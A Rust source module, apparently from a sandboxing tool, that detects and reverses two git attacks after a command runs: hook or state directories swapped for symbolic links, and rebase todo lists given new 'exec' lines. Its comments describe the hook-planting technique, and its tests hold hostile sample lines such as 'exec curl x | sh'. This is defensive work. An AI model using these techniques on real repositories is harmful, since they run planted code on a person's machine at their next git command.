//! Two things in an existing git directory that the top-level allow-list admits by name but
//! that can still make the person's next git command run the command's code:
//!
//! - **A directory git's ordinary work writes, replaced by a symbolic link** (`mv .git/hooks
//!   .git/hooks.old && ln -s /var/tmp/x .git/hooks`, an attacker pass under the guard): git
//!   follows it, so the person's next `git commit` ran the hook planted where it leads, and the
//!   sweep, which moves nothing through a link out of the project, could only say so. git never
//!   makes one of these a link, so the link itself is moved aside and what was there put back:
//!   the person's directory, renamed back from where the command moved it in the git directory
//!   (found by its identity), or, for `hooks`, made again from the hooks kept before the
//!   command; a link of the person's is made again as it was.
//! - **A rebase or sequencer todo list that runs a command** (`exec <cmd>` or `x <cmd>` in
//!   `rebase-merge/git-rebase-todo`, another attacker pass): the person's `git rebase
//!   --continue` runs it on the host. Of git's todo commands (`sequencer.c`,
//!   `todo_command_info`) only `exec` runs a shell; `merge`, `update-ref`, `label` and the rest
//!   run none, and `break` or `edit` only stop. `sequencer/todo` (cherry-pick and revert) is
//!   judged the same way, though git refuses anything but `pick` or `revert` there. Not judged:
//!   `rebase-merge/done` (what has run; git never runs it again) and `rebase-apply/` (the `am`
//!   backend's state: patches and their messages, applied without a command; a patch writing a
//!   protected path is git's checkout, which the person runs).

use super::*;

/// What an entry at the top of a git directory was before a command.
#[derive(PartialEq)]
pub(super) enum Was {
    /// A directory, by device and inode (so that, renamed, it can be found again).
    Dir((u64, u64)),
    /// A symbolic link, with its text.
    Link(PathBuf),
    /// Anything else (a file in place of a directory): never put back, only the link removed.
    Other,
}

impl Was {
    fn of(path: &Path) -> Option<Was> {
        let meta = std::fs::symlink_metadata(path).ok()?;
        Some(if meta.file_type().is_symlink() {
            Was::Link(std::fs::read_link(path).ok()?)
        } else if meta.is_dir() {
            Was::Dir(identity_of(&meta))
        } else {
            Was::Other
        })
    }
}

/// The directories git's ordinary work writes at the top of a git directory
/// ([`sandbox::protected::GIT_DIR_WRITABLE`]), and `hooks`, which is git's own too; files
/// among them (`index`, `HEAD`) are looked at as well: a link there is no more git's.
pub(super) fn top_names() -> impl Iterator<Item = &'static str> {
    sandbox::protected::GIT_DIR_WRITABLE
        .iter()
        .copied()
        .chain(std::iter::once("hooks"))
}

/// Whether `name` may be in the directory whose listing is `listed`: every name may when the
/// listing could not be made (`None`), so that a failed listing costs a `stat` a name and never
/// a name looked past.
pub(super) fn may_be_in(listed: Option<&[OsString]>, name: &str) -> bool {
    listed.is_none_or(|names| names.iter().any(|n| n == name))
}

/// The names in `dir` (`None` when it cannot be listed, or is no directory): one listing in
/// place of a `stat` or `readlink` of each of [`top_names`], nearly all of them absent.
pub(super) fn listed(dir: &Path) -> Option<Vec<OsString>> {
    let entries = std::fs::read_dir(dir).ok()?;
    entries
        .map(|entry| entry.map(|e| e.file_name()))
        .collect::<std::io::Result<Vec<_>>>()
        .ok()
}

/// The top of the git directory `dir` before a command: each of [`top_names`] that exists.
/// `listed`: the names in `dir`, from the same look (only those are `stat`ed; all of them
/// when `None`).
pub(super) fn look_tops(dir: &Path, listed: Option<&[OsString]>) -> Vec<(&'static str, Was)> {
    top_names()
        .filter(|name| may_be_in(listed, name))
        .filter_map(|name| Was::of(&dir.join(name)).map(|was| (name, was)))
        .collect()
}

/// After the command: each of [`top_names`] in `dir` that is a symbolic link now, and was not
/// that link before, is moved aside (the link itself; nothing is followed) and what was there
/// put back ([`put_back_top`]); a line for each. `kept_hooks`: the hooks kept before the command,
/// to make `hooks` again from when the person's directory is not found in `dir`.
pub(super) fn sweep_top_links(
    root: &Path,
    dir: &Path,
    before: &[(&'static str, Was)],
    kept_hooks: Option<&[(OsString, Content)]>,
) -> Vec<String> {
    let mut lines = Vec::new();
    // One listing, then a `readlink` of the names in it (of every name where it fails).
    let present = listed(dir);
    for name in top_names().filter(|name| may_be_in(present.as_deref(), name)) {
        let path = dir.join(name);
        let Ok(target) = std::fs::read_link(&path) else {
            continue;
        };
        let was = before.iter().find(|(n, _)| *n == name).map(|(_, was)| was);
        if was == Some(&Was::Link(target.clone())) {
            continue;
        }
        let shown_path = shown(root, &path);
        let what = format!(
            "[gg: the command replaced {shown_path} with a symbolic link (to {}), which the \
             person's git would follow (to run the hooks, read the configuration or take the \
             state that lie there)",
            target.display()
        );
        let (spot, aside) = match set_aside(root, &path) {
            Ok(done) => done,
            Err(e) => {
                lines.push(format!(
                    "{what}, and it could not be moved aside ({e}): remove it before running \
                     git there]"
                ));
                continue;
            }
        };
        let restored = match was {
            None => "nothing was there before".to_string(),
            Some(was) => put_back_top(&spot, name, was, kept_hooks),
        };
        lines.push(format!("{what}; the link {}; {restored}]", aside.done()));
    }
    lines
}

/// Puts back what `name` was in the git directory open at `spot.dir`, where nothing of that
/// name is now: a directory renamed back from where the command moved it at the top of the
/// git directory, else (for `hooks`) made again from the kept hooks; a link made again. Says
/// what was done.
fn put_back_top(
    spot: &Spot,
    name: &'static str,
    was: &Was,
    kept_hooks: Option<&[(OsString, Content)]>,
) -> String {
    match was {
        Was::Link(text) => match rustix::fs::symlinkat(text, &spot.dir, name) {
            Ok(()) => format!("the person's link (to {}) made again", text.display()),
            Err(e) => format!("the person's link could not be made again ({e})"),
        },
        Was::Other => "what was there before was not kept".to_string(),
        Was::Dir(id) => {
            // Moved within the git directory (`mv .git/hooks .git/hooks.old`): found by its
            // identity, without following a link, and renamed back.
            let found = dir_names(&spot.dir).ok().and_then(|names| {
                names.into_iter().find(|other| {
                    rustix::fs::statat(
                        &spot.dir,
                        other.as_os_str(),
                        rustix::fs::AtFlags::SYMLINK_NOFOLLOW,
                    )
                    .is_ok_and(|stat| {
                        rustix::fs::FileType::from_raw_mode(stat.st_mode)
                            == rustix::fs::FileType::Directory
                            && (stat.st_dev, stat.st_ino) == *id
                    })
                })
            });
            if let Some(other) = found {
                return match rustix::fs::renameat(&spot.dir, other.as_os_str(), &spot.dir, name) {
                    Ok(()) => format!(
                        "the person's directory put back from {}",
                        Path::new(&other).display()
                    ),
                    Err(e) => format!(
                        "the person's directory, found as {}, could not be put back ({e})",
                        Path::new(&other).display()
                    ),
                };
            }
            match (name, kept_hooks) {
                ("hooks", Some(hooks)) => match make_hooks(&spot.dir, hooks) {
                    Ok(()) if hooks.is_empty() => "the person's directory was not found in the \
                                                    git directory, so it was made again, empty \
                                                    (it held no hook but git's *.sample \
                                                    templates, which are not kept)"
                        .to_string(),
                    Ok(()) => format!(
                        "the person's directory was not found in the git directory, so it was \
                         made again with the {} hook(s) kept before the command (git's \
                         *.sample templates are not kept)",
                        hooks.len()
                    ),
                    Err(e) => format!("the person's hooks could not be made again ({e})"),
                },
                _ => "the person's directory was not found in the git directory (the command \
                      may have moved it where the link led): look there before running git"
                    .to_string(),
            }
        }
    }
}

/// Makes `hooks` in the git directory open at `git_dir` and writes each kept hook into it; a
/// hook that cannot be (one too large to have been kept) does not stop the others, and is
/// named in the error.
fn make_hooks(git_dir: &OwnedFd, hooks: &[(OsString, Content)]) -> std::io::Result<()> {
    rustix::fs::mkdirat(git_dir, "hooks", rustix::fs::Mode::from_raw_mode(0o755))?;
    let dir = open_dir(git_dir, "hooks")?;
    let failed: Vec<String> = hooks
        .iter()
        .filter_map(|(name, content)| {
            content
                .put_back(&dir, name)
                .err()
                .map(|e| format!("{}: {e}", Path::new(name).display()))
        })
        .collect();
    if failed.is_empty() {
        Ok(())
    } else {
        Err(std::io::Error::other(format!(
            "the directory was made, but not {}",
            failed.join(", ")
        )))
    }
}

/// The todo lists git's sequencer works through in the git directory `dir`.
pub(super) fn todo_paths(dir: &Path) -> [PathBuf; 2] {
    [
        dir.join("rebase-merge").join("git-rebase-todo"),
        dir.join("sequencer").join("todo"),
    ]
}

/// Each todo list of `dir` as it was, with whether its directory (`rebase-merge`,
/// `sequencer`) existed: a state the command made is moved aside whole. `listed`: the names in
/// `dir` from the same look; a state directory not among them is absent, and so is its list.
pub(super) fn look_todos(
    dir: &Path,
    listed: Option<&[OsString]>,
) -> Vec<(PathBuf, Option<Content>, bool)> {
    todo_paths(dir)
        .into_iter()
        .map(|path| {
            let state = path.parent().filter(|state| {
                state
                    .file_name()
                    .and_then(|n| n.to_str())
                    .is_none_or(|n| may_be_in(listed, n))
            });
            let state_existed = state.is_some_and(|state| std::fs::symlink_metadata(state).is_ok());
            let was = state_existed.then(|| Content::of(&path)).flatten();
            (path, was, state_existed)
        })
        .collect()
}

/// Whether `todo`, a todo list's text, holds a command git runs in a shell that `before` (the
/// list as it was, `None` when absent or unreadable) did not: an `exec <cmd>` or `x <cmd>`
/// line (leading blanks skipped, as git does; any case, which only adds caution). git's own
/// work on the person's list only takes lines off it (and puts a failed `exec` back as it
/// was), so the person's rebase, continued by a command, is not judged as the command's.
pub(super) fn runs_a_command(before: Option<&str>, todo: &str) -> bool {
    let theirs: std::collections::HashSet<&str> =
        before.unwrap_or("").lines().map(str::trim).collect();
    todo.lines().any(|line| {
        let exec = line.split_whitespace().next().is_some_and(|word| {
            word.eq_ignore_ascii_case("exec") || word.eq_ignore_ascii_case("x")
        });
        exec && !theirs.contains(line.trim())
    })
}

/// After the command: a todo list it made or changed that runs a command (or that is no
/// longer a regular file gg can read, which git may still follow) is moved aside, the state
/// directory with it when the command made that too, and the previous list put back; a line
/// for each.
pub(super) fn sweep_todos(root: &Path, todos: &[(PathBuf, Option<Content>, bool)]) -> Vec<String> {
    const WHY: &str = "a todo list that runs a command (exec) at the person's next `git rebase \
                       --continue`";
    let mut lines = Vec::new();
    for (path, was, state_existed) in todos {
        let now = Content::of(path);
        if now.is_none() || now == *was {
            continue;
        }
        let before = match was {
            Some(Content::File { bytes, .. }) => Some(String::from_utf8_lossy(bytes)),
            _ => None,
        };
        let runs = match read_regular(path, false) {
            Ok(Some(bytes)) => runs_a_command(before.as_deref(), &String::from_utf8_lossy(&bytes)),
            // A link, a FIFO, one too large: git may read what gg cannot (fail closed).
            _ => true,
        };
        if !runs {
            continue;
        }
        match (path.parent(), state_existed) {
            (Some(state), false) => {
                lines.extend(quarantine(root, &[(state.to_path_buf(), WHY.to_string())]))
            }
            _ => lines.push(move_aside_and_put_back(root, path, WHY, was.as_ref())),
        }
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_a_new_exec_runs_a_command() {
        for todo in [
            "pick 1234 x\nexec touch /tmp/p\n",
            "  x sh -c id\n",
            "pick 1\n\tEXEC id\n",
        ] {
            assert!(runs_a_command(None, todo), "{todo}");
        }
        for todo in [
            "pick 1234 exec the tests\n# exec x\nupdate-ref refs/heads/x\nbreak\n",
            "merge -C 1 label # x\nlabel x\nreset onto\n",
            "",
        ] {
            assert!(!runs_a_command(None, todo), "{todo}");
        }
        // The person's own list, continued: lines taken off it.
        let theirs = "pick 1 a\nexec make test\npick 2 b\nexec make test\n";
        assert!(!runs_a_command(Some(theirs), "pick 2 b\nexec make test\n"));
        assert!(runs_a_command(Some(theirs), "exec curl x | sh\npick 2 b\n"));
    }

    /// The snapshot taken from one listing of the git directory is the one a `stat` of every
    /// name gives: links, directories and files among git's names, the rest absent; and the
    /// todo lists are found where their state directory is listed.
    #[test]
    fn one_listing_sees_what_a_stat_of_each_name_sees() {
        let tmp = tempfile::tempdir().unwrap();
        let git = tmp.path().join(".git");
        std::fs::create_dir_all(git.join("hooks")).unwrap();
        std::fs::create_dir_all(git.join("refs")).unwrap();
        std::fs::create_dir_all(git.join("rebase-merge")).unwrap();
        std::fs::write(git.join("rebase-merge/git-rebase-todo"), "exec x\n").unwrap();
        std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(git.join("objects"), "a file where git keeps a directory").unwrap();
        std::os::unix::fs::symlink("/var/tmp/elsewhere", git.join("logs")).unwrap();
        std::os::unix::fs::symlink("elsewhere", git.join("sequencer")).unwrap();
        let listed = listed(&git);
        assert!(listed.is_some());
        let by_listing = look_tops(&git, listed.as_deref());
        let by_stat = look_tops(&git, None);
        let names = |tops: &[(&'static str, Was)]| tops.iter().map(|(n, _)| *n).collect::<Vec<_>>();
        assert_eq!(names(&by_listing), names(&by_stat));
        assert!(by_listing == by_stat);
        assert_eq!(
            names(&by_listing),
            [
                "objects",
                "refs",
                "logs",
                "HEAD",
                "rebase-merge",
                "sequencer",
                "hooks"
            ]
        );
        let todos = look_todos(&git, listed.as_deref());
        assert!(todos == look_todos(&git, None));
        assert!(
            todos[0].1.is_some() && todos[0].2,
            "the rebase's list is kept"
        );
        // The linked `sequencer` existed (as a link); its list leads nowhere.
        assert!(todos[1].1.is_none() && todos[1].2);
        // An unlistable directory: every name is looked at.
        assert!(may_be_in(None, "MERGE_MSG"));
        assert!(!may_be_in(Some(&[OsString::from("HEAD")]), "MERGE_MSG"));
    }

    /// `.git/hooks` moved within the git directory and replaced by a link leading out of the
    /// project: the link goes to the quarantine and the person's directory comes back; moved
    /// out of reach instead, it is made again from the kept hooks.
    #[test]
    fn a_linked_hooks_directory_is_put_back() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("p");
        let git = root.join(".git");
        let outside = tmp.path().join("outside");
        std::fs::create_dir_all(git.join("hooks")).unwrap();
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("pre-commit"), "planted").unwrap();
        std::fs::write(git.join("hooks/post-commit"), "the person's").unwrap();
        let kept = vec![(
            OsString::from("post-commit"),
            Content::of(&git.join("hooks/post-commit")).unwrap(),
        )];
        for moved_out in [false, true] {
            let before = look_tops(&git, listed(&git).as_deref());
            let away = if moved_out {
                tmp.path().join("away")
            } else {
                git.join("hooks.old")
            };
            std::fs::rename(git.join("hooks"), &away).unwrap();
            std::os::unix::fs::symlink(&outside, git.join("hooks")).unwrap();
            let lines = sweep_top_links(&root, &git, &before, Some(&kept));
            assert_eq!(lines.len(), 1, "{lines:?}");
            let meta = std::fs::symlink_metadata(git.join("hooks")).unwrap();
            assert!(meta.is_dir(), "{lines:?}");
            assert_eq!(
                std::fs::read_to_string(git.join("hooks/post-commit")).unwrap(),
                "the person's"
            );
            assert!(!git.join("hooks/pre-commit").exists());
            assert!(!git.join("hooks.old").exists());
            assert_eq!(
                std::fs::read_to_string(outside.join("pre-commit")).unwrap(),
                "planted"
            );
            // Unchanged since: nothing to say.
            let before = look_tops(&git, listed(&git).as_deref());
            assert!(sweep_top_links(&root, &git, &before, Some(&kept)).is_empty());
        }
    }
}
